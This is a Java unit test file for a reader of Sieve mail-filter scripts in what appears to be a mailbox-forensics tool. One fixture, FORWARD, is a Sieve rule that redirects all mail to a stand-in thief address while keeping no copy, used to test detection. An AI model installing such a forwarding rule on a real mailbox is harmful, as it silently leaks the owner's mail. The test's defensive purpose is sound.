package org.mimawari.connector.export.script;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.mimawari.connector.export.ExportFiles;
import org.mimawari.connector.export.RecordingSink;
import org.mimawari.connector.export.Source;
import org.mimawari.evidence.AutoReply;
import org.mimawari.evidence.Coverage;
import org.mimawari.evidence.MailboxAddress;
import org.mimawari.evidence.MailboxRule;
import org.mimawari.evidence.RuleTrait;

class SieveScriptsTest {

    private static final String FORWARD = "require \"copy\";\nredirect \"thief@evil.example\";\n";
    private static final String HARMLESS = "if header :contains \"subject\" \"news\" { fileinto \"News\"; }\n";

    private final SieveScripts reader = new SieveScripts();

    @TempDir
    private Path folder;

    private Source owned(String name, String content) {
        Source plain = new ExportFiles(folder).file(name, content);
        return new Source(plain.path(), name, Optional.of(new MailboxAddress("info@shop.example")), List.of());
    }

    @Test
    void recognisesAScriptByWhatItSays() {
        ExportFiles files = new ExportFiles(folder);
        assertThat(ExportFiles.recognises(reader, files.file("a.txt", FORWARD))).isGreaterThan(90);
        assertThat(ExportFiles.recognises(reader, files.file("b", HARMLESS))).isGreaterThan(50);
        assertThat(ExportFiles.recognises(reader, files.file("c", "Please keep; this list.\n"))).isLessThan(50);
        assertThat(ExportFiles.recognises(reader, files.file("d.json", "{\"require\": 1}"))).isZero();
    }

    @Test
    void theScriptThatDovecotPointsToIsTheActiveOne() throws IOException {
        Source waiting = owned("sieve/backup.sieve", FORWARD);
        Source used = owned("sieve/main.sieve", HARMLESS);
        Path link = Files.createSymbolicLink(folder.resolve(".dovecot.sieve"), used.path());
        Source pointer = new Source(link, ".dovecot.sieve", used.owner(), List.of());

        RecordingSink sink = ExportFiles.read(reader, pointer, waiting, used);

        assertThat(sink.evidence(MailboxRule.class)).hasSize(2).allSatisfy(rule -> assertThat(
                rule.traits().contains(RuleTrait.INACTIVE_SCRIPT)).isEqualTo(rule.name().equals("backup")));
        assertThat(sink.admitted()).isEqualTo(2);
        assertThat(sink.duplicates()).isEqualTo(1);
    }

    @Test
    void aFileNamedByAnAddressBelongsToThatMailbox() {
        RecordingSink sink = ExportFiles.read(reader, new ExportFiles(folder).file("sales@shop.example.sieve", FORWARD));
        assertThat(sink.evidence().get(0).mailbox()).contains(new MailboxAddress("sales@shop.example"));
    }

    @Test
    void aScriptOfNobodyCoversNobody() {
        RecordingSink sink = ExportFiles.read(reader, new ExportFiles(folder).file("main.sieve", HARMLESS));
        assertThat(sink.coverage()).isNotEmpty()
                .allSatisfy(piece -> assertThat(piece.state()).isEqualTo(Coverage.State.NOT_COLLECTED));
    }

    @Test
    void aBrokenScriptIsShownAsUnreadableBesideWhatWasRead() {
        RecordingSink sink = ExportFiles.read(reader, owned("x.sieve", FORWARD + "if header ~~ {{{\n"));
        assertThat(sink.evidence(MailboxRule.class)).anyMatch(rule -> !rule.readable())
                .anyMatch(rule -> rule.traits().contains(RuleTrait.KEEPS_NO_COPY));
    }

    @Test
    void anAutomaticReplyIsEvidenceOfItsOwn() {
        RecordingSink sink = ExportFiles.read(reader, owned("v.sieve", "require \"vacation\";\nvacation :subject \"Away\" \"Back soon\";"));
        assertThat(sink.evidence(AutoReply.class)).singleElement().extracting(AutoReply::subject).isEqualTo(Optional.of("Away"));
    }
}
